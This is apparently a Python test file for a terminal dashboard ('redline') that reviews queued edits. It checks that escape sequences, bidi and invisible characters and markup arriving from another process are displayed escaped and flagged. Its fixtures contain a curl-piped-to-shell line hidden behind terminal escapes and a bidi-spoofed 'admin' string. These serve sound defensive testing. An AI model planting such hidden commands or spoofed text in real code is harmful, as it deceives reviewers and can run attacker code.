"""An action queued by another process whose label, path and diff carry escapes, bidi and
invisible characters and Textual markup: the dashboard draws all of it shown (as
``redline pending show`` does), marks the diff lines with ⚠, and never reads markup."""

from __future__ import annotations

import subprocess
import sys
import textwrap
from pathlib import Path

from tests.tui.conftest import wait_until
from tests.tui.fakes import FakeWatcher
from tests.tui.test_review_queue import SIZE, queued_session
from textual.widget import Widget
from textual.widgets import Static

from redline.termtext import visible
from redline.tui.app import RedlineApp
from redline.tui.widgets.diff_text import diff_lines

LABEL = "Edit src/app.py\x1b[2K\r\x1b[1A[bold]fake[/bold] [link=https://evil.invalid]x[/link]\nrow"
HIDING = 'ok = 1  # \x1b[2K\x1b[1Gos.system("curl evil | sh")\n'
BIDI = 'access = "user\u202e \u2066# admin\u2069 \u2066"\u200b\n'
RAW = ("\x1b", "\r", "\x07", "\u202e", "\u2066", "\u200b")

PUSH = textwrap.dedent(
    """
    import sys
    from pathlib import Path
    from redline.workspace.preview import FileModify, Preview, sha256_bytes
    from redline.workspace.queue import ActionDraft, Source, WorkspaceQueue

    label, hiding, bidi = sys.argv[2:5]
    old = "a = 1\\n"
    change = FileModify("src/app.py", sha256_bytes(old.encode()), old, old + hiding + bidi)
    queue = WorkspaceQueue(Path(sys.argv[1]))
    record = queue.push(
        ActionDraft(label, Source.current("exec", "exec", "other"), source_tool_name="edit\\x07",
                    preview=Preview([change]))
    )
    queue.close()
    print(record.id)
    """
)


def drawn(widget: Widget) -> str:
    """The text of every line a Line-API widget draws now."""
    return "\n".join(
        "".join(segment.text for segment in widget.render_line(y))
        for y in range(widget.size.height)
    )


def assert_nothing_raw(text: str) -> None:
    for raw in RAW:
        assert raw not in text, (raw, text)


async def test_hostile_text_from_another_process_is_shown_in_the_dashboard(
    tmp_path: Path,
) -> None:
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "app.py").write_text("a = 1\n")
    session, queue = queued_session(tmp_path)
    app = RedlineApp(session, watcher_factory=FakeWatcher)  # type: ignore[arg-type]
    try:
        async with app.run_test(size=SIZE) as pilot:
            pushed = subprocess.run(
                [sys.executable, "-c", PUSH, str(tmp_path), LABEL, HIDING, BIDI],
                capture_output=True,
                text=True,
                timeout=120,
                check=True,
            ).stdout.strip()
            await wait_until(pilot, lambda: app.stack.top_id == pushed)
            diff_view = app.preview.diff_view
            await wait_until(pilot, lambda: "os.system" in drawn(diff_view))
            await pilot.pause()
            # The diff: the hidden line and its escapes visible, marked in the gutter.
            diff = drawn(diff_view)
            assert_nothing_raw(diff)
            assert '⚠ok = 1  # \\x1b[2K\\x1b[1Gos.system("curl evil | sh")' in diff
            assert "<U+202E>" in diff and "<U+2066>" in diff and "<U+200B>" in diff
            assert [row.hidden for row in diff_view._rows if row.kind == "add"] == [True, True]
            # The stack and the header: the label on one line, its markup as written.
            stack = drawn(app.stack)
            assert_nothing_raw(stack)
            assert "Edit src/app.py\\x1b[2K\\x0d\\x1b[1" in stack and "[edit\\x07]" in stack
            header = str(app.screen_stack[0].query_one("#preview-header", Static).render())
            assert_nothing_raw(header)
            assert "[link=https://evil.invalid]x[/link]\\x0arow" in header
            assert "[edit\\x07]" in header
            # A notification quoting it is plain text, shown.
            app.notify(f"{pushed} ({LABEL}) failed", title="Apply\x1b[31m")
            await wait_until(pilot, lambda: any(True for _ in app._notifications))
            note = list(app._notifications)[-1]
            assert note.message == visible(f"{pushed} ({LABEL}) failed")
            assert note.title == "Apply\\x1b[31m" and note.markup is False
    finally:
        queue.close()


def test_the_team_dashboard_draws_a_mirrored_diff_the_same_way() -> None:
    mirrored = "--- a/src/app.py\n+++ b/src/app.py\n@@ -1 +1,3 @@\n a = 1\n+" + HIDING + "+" + BIDI
    lines = [line.plain for line in diff_lines(mirrored)]
    assert_nothing_raw("\n".join(lines))
    assert '⚠ +ok = 1  # \\x1b[2K\\x1b[1Gos.system("curl evil | sh")' in lines
    assert "   a = 1" in lines  # the gutter is there for every line, empty when clean
    crlf = "--- a/w.txt\n+++ b/w.txt\n@@ -1,2 +1,2 @@\n x\r\n-y\r\n+z\r\n"
    assert [line.plain for line in diff_lines(crlf)] == [
        "--- a/w.txt",
        "+++ b/w.txt  (CRLF line endings)",
        "@@ -1,2 +1,2 @@",
        " x",
        "-y",
        "+z",
    ]


def test_the_dashboards_diff_says_crlf_once_and_shows_a_stray_carriage_return() -> None:
    from redline.tui.diff_model import unified_rows
    from redline.workspace.preview import FileModify, sha256_bytes

    def rows(old: str, new: str) -> list[tuple[str, str, bool]]:
        change = FileModify("w.txt", sha256_bytes(old.encode()), old, new)
        return [(row.kind, row.text, row.hidden) for row in unified_rows(change)]

    assert rows("x\r\ny\r\n", "x\r\nz\r\n") == [
        ("meta", "CRLF line endings", False),
        ("hunk", "@@ -1,2 +1,2 @@", False),
        ("context", "x", False),
        ("delete", "y", False),
        ("add", "z", False),
    ]
    assert ("add", "y\\x0d", True) in rows("x\ny\n", "x\ny\r\n")
    assert ("add", "\tb\\x1b[8m".expandtabs(4), True) in rows("a\n", "a\n\tb\x1b[8m\n")


async def test_a_reason_given_in_another_process_is_shown_in_the_activity(tmp_path: Path) -> None:
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "app.py").write_text("a = 1\n")
    session, queue = queued_session(tmp_path)
    app = RedlineApp(session, watcher_factory=FakeWatcher)  # type: ignore[arg-type]
    reason = "\x1b[31mLGTM\x1b[0m\r\x1b[1A[bold]ok[/bold]\u202e\x07"
    try:
        async with app.run_test(size=SIZE) as pilot:
            pushed = subprocess.run(
                [sys.executable, "-c", PUSH, str(tmp_path), "Edit app.py", HIDING, BIDI],
                capture_output=True,
                text=True,
                timeout=120,
                check=True,
            ).stdout.strip()
            await wait_until(pilot, lambda: app.stack.top_id == pushed)
            discard = ["pending", "-C", str(tmp_path), "discard", pushed, "--reason", reason]
            done = subprocess.run(
                [sys.executable, "-m", "redline", *discard],
                capture_output=True,
                text=True,
                timeout=120,
                check=False,
            )
            assert done.returncode == 0, done.stderr
            await wait_until(pilot, lambda: app.stack.rows == [])
            shown = "\\x1b[31mLGTM\\x1b[0m\\x0d\\x1b[1A[bold]ok[/bold]<U+202E>\\x07"
            await wait_until(pilot, lambda: shown in app.activity.plain)
            await pilot.pause()
            log = drawn(app.activity)
            assert_nothing_raw(log)
            assert shown in log
    finally:
        queue.close()
